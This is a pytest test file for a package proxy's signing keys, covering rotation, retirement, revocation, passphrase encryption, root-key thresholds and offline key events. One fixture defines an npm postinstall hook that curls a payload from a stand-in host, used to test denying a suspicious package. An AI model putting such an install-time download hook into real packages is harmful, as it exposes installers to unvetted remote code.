"""Keys change while the service runs: rotation, retirement, revocation, passphrases, several root keys, no server."""

import base64
import json
import os

import pytest

from support.clients import NodeProject
from support.packages import npm_package
from support.server import wait_until

PACKAGES = ["first-fixture", "second-fixture", "third-fixture", "fourth-fixture"]
SUSPICIOUS = dict(scripts={"postinstall": "curl -sSf https://cdn.example.invalid/payload.bin -o payload.bin"})


@pytest.fixture
def served(deploy, npm_upstream):
    npm = npm_upstream([npm_package(name, "1.0.0") for name in PACKAGES])
    return deploy(npm=npm.url).start()


def install(server, tmp_path, name: str) -> None:
    NodeProject(tmp_path / f"project-{name}", server.url, {name: "1.0.0"}).npm("install").succeeded()


def keys(server, role: str, state: str = "good") -> list[dict]:
    return [key for key in server.run_json("key", "list") if key["role"] == role and key["state"] == state]


def key_id(server, role: str) -> str:
    (only,) = keys(server, role)
    return only["keyid"]


def checkpoint_signatures(server) -> list[str]:
    """The short hashes of the keys that signed the checkpoint as served."""
    lines = server.get("/-/log/checkpoint").body.decode().splitlines()
    return [base64.b64decode(line.split()[-1])[:4].hex() for line in lines if line.startswith("\u2014 ")]


def signer_of_newest(server, name: str) -> set[str]:
    """The keys that signed the verdicts about a package. Two keys that say the same in one second make one statement."""
    found = {statement["signer"] for statement in server.statements(purl=f"pkg:npm/{name}@1.0.0")}
    assert found, f"no verdicts about {name}"
    return found


def test_the_log_key_rotates_while_packages_are_installed(served, tmp_path):
    install(served, tmp_path, "first-fixture")
    old = checkpoint_signatures(served)
    assert len(old) == 1

    record = json.loads(served.run("key", "rotate", "log", "--reason", "yearly").stdout)
    assert record["payloadType"] == "application/vnd.in-toto+json"
    # The checkpoint over the event itself has both signatures already.
    both = checkpoint_signatures(served)
    assert len(both) == 2 and both[0] == old[0]
    install(served, tmp_path, "second-fixture")
    assert checkpoint_signatures(served) == both
    assert [key["file"].rsplit("/", 1)[1] for key in keys(served, "log")] == ["log.key", "next-log.key"]

    served.run("key", "retire", "log", "--reason", "overlap is over")
    assert checkpoint_signatures(served) == both[1:]
    install(served, tmp_path, "third-fixture")
    assert checkpoint_signatures(served) == both[1:]
    assert keys(served, "log")[0]["file"].endswith("/log.key")
    assert [path.name for path in (served.folder / "data/keys").glob("log.key.ended-*")]
    served.run("log", "verify")

    last = served.run("key", "retire", "log", "--reason", "one too many", expect=2)
    assert "last good log key" in last.stderr and "jurat key rotate log" in last.stderr

    served.stop()
    served.restart()
    install(served, tmp_path, "fourth-fixture")
    served.run("log", "verify")


def test_the_verdict_key_rotates_and_workers_sign_with_the_new_one(served, tmp_path):
    install(served, tmp_path, "first-fixture")
    old = key_id(served, "verdict")
    assert signer_of_newest(served, "first-fixture") == {old}
    served.run("key", "rotate", "verdict", "--reason", "yearly")
    (new,) = {key["keyid"] for key in keys(served, "verdict")} - {old}
    wait_until(lambda: "starts again with the keys of now" in served.log(), "the worker starts again")
    install(served, tmp_path, "second-fixture")
    assert signer_of_newest(served, "second-fixture") == {new}
    served.run("key", "retire", "verdict", "--reason", "overlap is over")
    assert key_id(served, "verdict") == new
    install(served, tmp_path, "third-fixture")
    assert signer_of_newest(served, "third-fixture") == {new}
    # What the old key said in its time still counts: nothing about it is asked again.
    assert signer_of_newest(served, "first-fixture") == {old}
    served.run("log", "verify")


def test_an_operator_key_rotates_and_a_retired_one_rules_no_more(deploy, npm_upstream, tmp_path):
    npm = npm_upstream([npm_package("fetches-on-install", "1.4.0", **SUSPICIOUS)])
    server = deploy(npm=npm.url).start()
    purl = "pkg:npm/fetches-on-install@1.4.0"
    (operator,) = keys(server, "operator")
    name = f"operator-{operator['holder']}"
    server.run("holds", "deny", purl, "--reason", "with the first key")
    saved = (server.folder / f"data/keys/{name}.key").read_bytes()
    server.run("key", "rotate", name, "--reason", "new laptop")
    server.run("holds", "allow", purl, "--reason", "during the overlap")
    server.run("key", "retire", name, "--reason", "old laptop is gone")
    server.run("holds", "deny", purl, "--reason", "with the second key")
    assert server.get("/fetches-on-install/-/fetches-on-install-1.4.0.tgz").status == 403
    path = server.folder / f"data/keys/{name}.key"
    path.rename(path.with_suffix(".kept"))
    path.write_bytes(saved)
    path.chmod(0o600)
    refused = server.run("holds", "allow", purl, "--reason", "with the old key", expect=None)
    assert refused.returncode != 0 and operator["keyid"][:12] in refused.stderr and "retired" in refused.stderr
    server.run("log", "verify")


def test_a_revoked_verdict_key_voids_clean_verdicts_and_the_next_key_says_them_again(served, tmp_path):
    size = served.head_of_log()
    install(served, tmp_path, "first-fixture")
    served.settle()
    old = key_id(served, "verdict")
    served.run("key", "rotate", "verdict", "--reason", "the old one may be stolen")
    (new,) = {key["keyid"] for key in keys(served, "verdict")} - {old}
    before = served.head_of_log()
    rehearsed = served.run(
        "key", "revoke", old[:16], "--from-index", str(size), "--reason", "stolen", "--dry-run"
    )
    assert "3 statements become void: 3 clean" in rehearsed.stderr
    assert json.loads(rehearsed.stdout)["predicate"]["invalidFromIndex"] == size
    assert served.head_of_log() == before
    future = served.run("key", "revoke", old[:16], "--from-index", "99999", "--reason", "stolen", expect=2)
    assert "future" in future.stderr

    served.run("key", "revoke", old[:16], "--from-index", str(size), "--reason", "stolen")
    # Nobody asks for the package: it is analysed again because its verdicts are void.
    wait_until(lambda: new in signer_of_newest(served, "first-fixture"), "the new key's verdicts")
    install(served, tmp_path, "second-fixture")
    assert signer_of_newest(served, "second-fixture") == {new}
    served.run("log", "verify")
    (revoked,) = keys(served, "verdict", "revoked")
    assert revoked["keyid"] == old and revoked["invalidFromIndex"] == size
    assert "key-event" in (served.folder / "data/audit.jsonl").read_text()


def test_keys_under_a_passphrase(deploy, npm_upstream, tmp_path):
    npm = npm_upstream([npm_package(name, "1.0.0") for name in PACKAGES])
    secret = tmp_path / "passphrase"
    secret.write_text("correct horse battery staple\n")
    secret.chmod(0o644)
    server = deploy(npm=npm.url, extra=f"keys: {{ passphraseFile: {secret} }}")
    exposed = server.run("init", expect=1)
    assert "chmod 600" in exposed.stderr and str(secret) in exposed.stderr
    secret.chmod(0o600)
    server.start()
    for path in (server.folder / "data/keys").glob("*.key"):
        text = path.read_text()
        assert text.startswith("jurat encrypted private key v1\n") and "seed" not in text
    install(server, tmp_path, "first-fixture")
    server.run("key", "rotate", "log", "--reason", "yearly")
    server.run("key", "rotate", "verdict", "--reason", "yearly")
    assert len(checkpoint_signatures(server)) == 2
    assert all(key["isEncrypted"] for key in server.run_json("key", "list"))
    wait_until(lambda: "starts again with the keys of now" in server.log(), "the worker starts again")
    install(server, tmp_path, "second-fixture")
    server.stop()

    wrong = tmp_path / "wrong"
    wrong.write_text("correct horse battery stapler\n")
    wrong.chmod(0o600)
    refused = server.run("serve", "--passphrase-file", str(wrong), expect=1)
    assert "passphrase does not open" in refused.stderr and "log.key" in refused.stderr
    configuration = (server.folder / "jurat.yaml").read_text()
    (server.folder / "jurat.yaml").write_text(configuration.replace(f"keys: {{ passphraseFile: {secret} }}", ""))
    shut = server.run("serve", expect=1)
    assert "--passphrase-file" in shut.stderr
    for ran in (exposed, refused, shut):
        assert "correct horse" not in ran.stdout + ran.stderr
    server.run("key", "retire", "log", "--reason", "done", "--passphrase-file", str(secret))
    (server.folder / "jurat.yaml").write_text(configuration)
    server.restart()
    install(server, tmp_path, "third-fixture")
    assert "correct horse" not in server.log()


def test_plain_keys_are_encrypted_in_their_place(served, tmp_path):
    served.stop()
    secret = tmp_path / "passphrase"
    secret.write_text("another long passphrase\n")
    secret.chmod(0o600)
    before = served.run_json("key", "list")
    served.run("key", "encrypt", "--passphrase-file", str(secret))
    after = served.run_json("key", "list")
    assert [key["keyid"] for key in before] == [key["keyid"] for key in after]
    assert all(key["isEncrypted"] for key in after)
    configuration = served.folder / "jurat.yaml"
    configuration.write_text(configuration.read_text() + f"keys: {{ passphraseFile: {secret} }}\n")
    served.restart()
    install(served, tmp_path, "first-fixture")


def test_two_of_two_root_keys_and_a_root_key_made_elsewhere(deploy, npm_upstream, tmp_path):
    npm = npm_upstream([npm_package("first-fixture", "1.0.0")])
    server = deploy(npm=npm.url).start()
    elsewhere = tmp_path / "safe"
    made = server.run("key", "generate", "root", "--file-only", "--keys", str(elsewhere))
    public = made.stdout.strip()
    assert oct(os.stat(elsewhere / "root.key").st_mode & 0o777) == "0o600"
    server.run("key", "generate", "root", "--public-key", public, "--threshold", "2", "--reason", "two people")

    one = server.run("key", "rotate", "log", "--reason", "with one", expect=2)
    assert "needs 2 root signatures" in one.stderr and "--root-key" in one.stderr
    assert not (server.folder / "data/keys/next-log.key").exists()
    both = ["--root-key", "data/keys/root.key", "--root-key", str(elsewhere / "root.key")]
    record = json.loads(server.run("key", "rotate", "log", "--reason", "with two", *both).stdout)
    assert len(record["signatures"]) == 2
    fewer = server.run("key", "retire", "root", "--reason", "one is enough", *both, expect=4)
    assert "threshold" in fewer.stderr
    server.run("key", "retire", "root", "--threshold", "1", "--reason", "one is enough", *both)
    server.run("key", "retire", "log", "--reason", "done", "--root-key", str(elsewhere / "root.key"))
    server.run("log", "verify")


def test_key_events_without_a_server(deploy, npm_upstream, tmp_path):
    npm = npm_upstream([npm_package("first-fixture", "1.0.0")])
    server = deploy(npm=npm.url)
    server.run("init")
    size = server.head_of_log()
    rehearsed = server.run("key", "rotate", "log", "--reason", "try", "--dry-run")
    assert json.loads(rehearsed.stdout)["predicate"]["event"] == "add"
    assert server.head_of_log() == size and not (server.folder / "data/keys/next-log.key").exists()
    server.run("key", "rotate", "log", "--reason", "offline")
    server.run("key", "retire", "log", "--reason", "offline")
    server.run("key", "generate", "operator-bea", "--reason", "joined", "--registries", "npmjs")
    again = server.run("key", "generate", "operator-bea", "--reason", "joined", expect=1)
    assert "jurat key rotate operator-bea" in again.stderr
    server.run("key", "rotate", "root", "--reason", "offline")
    server.run("key", "retire", "root", "--reason", "offline")
    assert len(keys(server, "root")) == 1
    server.run("key", "generate", "witness", "--reason", "we cosign")
    server.run("log", "verify")
    server.restart()
    install(server, tmp_path, "first-fixture")
    assert len(checkpoint_signatures(server)) == 1
    server.run("log", "verify")


def test_root_keys_can_be_away_and_mistakes_say_what_to_do(served):
    root = served.folder / "data/keys/root.key"
    away = served.folder / "away"
    away.mkdir()
    root.rename(away / "root.key")
    missing = served.run("key", "rotate", "log", "--reason", "no root here", expect=2)
    assert "--root-key FILE" in missing.stderr
    served.run("key", "rotate", "log", "--reason", "from the stick", "--root-key", str(away / "root.key"))
    for arguments, sentence in [
        (["key", "retire", "log", "--root-key", "x"], "--reason"),
        (["key", "revoke", "log", "--reason", "x", "--root-key", str(away / "root.key")], "--from-index"),
        (["key", "retire", "ffff", "--reason", "x"], "jurat key list"),
        (["key", "generate", "admin", "--reason", "x"], "expected root, log, verdict"),
        (["key", "generate", "operator-bea", "--reason", "x", "--public-key", "AAAA"], "--file-only"),
        (["key", "generate", "log", "--reason", "x", "--threshold", "2"], "--threshold"),
        (["key", "rotate", "log", "--reason", "x", "--root-key", str(away / "root.key")], "under way"),
    ]:
        ran = served.run(*arguments, expect=None)
        assert ran.returncode != 0 and sentence in ran.stderr, (arguments, ran.stderr)
    unknown = served.run("key", "retire", "verdict", "--reason", "x", "--root-key", str(away / "root.key"), expect=2)
    assert "last good verdict key" in unknown.stderr
